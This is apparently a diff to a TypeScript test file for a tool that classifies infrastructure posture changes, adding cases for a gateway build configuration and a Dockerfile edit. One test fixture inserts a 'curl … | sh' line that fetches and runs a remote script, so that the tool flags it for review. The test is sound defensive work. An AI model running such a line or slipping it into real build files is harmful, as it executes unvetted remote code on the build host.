@@ -242,6 +242,29 @@ const CASES: Case[] = [
         expect: [{ id: "exposure.ssh.sources:restricted", category: "exposure", direction: "strengthens" }],
     },
     {
+        name: "neutral: the gateway built from another toolchain and module proxy (the build step's lines are explained)",
+        head: () => postureWith({ gateway: { ...prodKey("gateway"), buildFrom: { goImage: "registry.example.com/golang:1.26.8-bookworm", goProxy: "https://goproxy.example.com" } } }),
+        expect: [
+            { id: "containers.citadel-gateway.buildFrom.args", category: "containers", direction: "neutral" },
+            { id: "host.step:gateway-image", category: "host", direction: "neutral" },
+        ],
+    },
+    {
+        name: "an images/caddy edit: the rebuild is named, and the Dockerfile lines it changes stay for the reviewer (unclassified)",
+        head: () =>
+            mutated(prodPosture(), (p) => {
+                const step = p.hostSteps.find((s) => s.name === "gateway-image")!;
+                const gw = p.containers.find((x) => x.role === "gateway")!;
+                const next = "f".repeat(64);
+                step.script = step.script.replaceAll(gw.buildFrom!.inputsSha256, next).replace("FROM ${BASE_IMAGE}\n", "FROM ${BASE_IMAGE}\nRUN curl -fsS https://example.com/x.sh | sh\n");
+                gw.buildFrom!.inputsSha256 = next;
+            }),
+        expect: [
+            { id: "containers.citadel-gateway.buildFrom.inputs", category: "containers", direction: "neutral" },
+            { id: "host.step:gateway-image", category: "host", direction: "unclassified" },
+        ],
+    },
+    {
         name: "a host script changed by a template edit (unclassified, with its diff)",
         head: () => mutated(prodPosture(), (p) => void (p.hostSteps.find((s) => s.name === "firewall")!.script += "\nufw allow 9999/tcp\n")),
         expect: [{ id: "host.step:firewall", category: "host", direction: "unclassified" }],
